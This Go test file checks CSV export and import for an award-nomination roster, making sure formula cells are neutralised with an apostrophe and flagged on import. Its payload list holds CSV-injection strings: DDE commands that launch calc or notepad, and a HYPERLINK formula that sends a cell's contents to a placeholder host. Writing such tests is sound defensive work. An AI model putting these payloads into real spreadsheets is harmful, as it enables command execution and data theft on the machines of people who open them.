package roster

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"khenthuong"
)

// The payloads of issue 17: a formula, a function call, a DDE command.
var formulaPayloads = []string{
	`=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")`,
	`@SUM(1+9)*cmd|' /C calc'!A0`,
	`=cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`+1+cmd|' /C notepad'!A0`,
	"\t=1+1",
}

func TestSafeCSVCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"=1+1", "'=1+1"},
		{"+84 912 345 678", "'+84 912 345 678"},
		{"- Chủ tịch", "'- Chủ tịch"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"Lê Văn An", "Lê Văn An"},
		{"", ""},
		{"1+1", "1+1"},
	} {
		if got := SafeCSVCell(tc.in); got != tc.want {
			t.Errorf("SafeCSVCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestWriteCSVNeutralisesFormulas: no cell of a written CSV starts as a formula.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	var rows []ExportRow
	for i, p := range formulaPayloads {
		rows = append(rows, ExportRow{Nomination: khenthuong.Nomination{FormCode: "BKCT", Order: i + 1,
			Nominee: khenthuong.Nominee{Kind: khenthuong.Individual, Name: p, Position: p, Unit: p}}})
	}
	var buf bytes.Buffer
	must(t, WriteCSV(&buf, rows, ExportOptions{Forms: testForms()}))
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), utf8BOM))).ReadAll()
	must(t, err)
	if len(recs) != len(formulaPayloads)+1 {
		t.Fatalf("%d records", len(recs))
	}
	found := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
				t.Errorf("cell %q starts as a formula", cell)
			}
			if strings.HasPrefix(cell, "'") {
				found++
			}
		}
	}
	if found != 3*len(formulaPayloads) {
		t.Errorf("%d neutralised cells, want %d", found, 3*len(formulaPayloads))
	}
}

// TestImportWarnsAboutFormulas: such cells are imported as text, each with a
// warning in its row's report naming the column; a bullet is not one.
func TestImportWarnsAboutFormulas(t *testing.T) {
	var b strings.Builder
	b.WriteString("STT;Họ và tên;Chức vụ;Đơn vị;Hình thức\n")
	for i, p := range formulaPayloads[:5] {
		b.WriteString(strings.Join([]string{string(rune('1' + i)), `"` + strings.ReplaceAll(p, `"`, `""`) + `"`, "Chuyên viên", "Sở Nội vụ", "BKCT"}, ";") + "\n")
	}
	b.WriteString("6;Lê Văn An;- Chủ tịch Hội;Sở Nội vụ;BKCT\n")
	im, err := ReadCSV(strings.NewReader(b.String()), "congthuc.csv", testOptions())
	must(t, err)
	warned := map[int]bool{}
	for _, p := range im.Problems {
		if strings.Contains(p.Message, "công thức") {
			if p.Severity != SeverityWarning || !strings.HasPrefix(p.Column, "B") {
				t.Errorf("problem %s", p)
			}
			warned[p.Row] = true
		}
	}
	for row := 2; row <= 6; row++ {
		if !warned[row] {
			t.Errorf("row %d not warned:%s", row, problemsOf(im))
		}
	}
	if warned[7] {
		t.Error("a bullet “- Chủ tịch Hội” warned as a formula")
	}
	if len(im.Rows) != 6 || !strings.HasPrefix(im.Rows[0].Nomination.Nominee.Name, "=") {
		t.Errorf("rows %d, first %q", len(im.Rows), im.Rows[0].Nomination.Nominee.Name)
	}
}
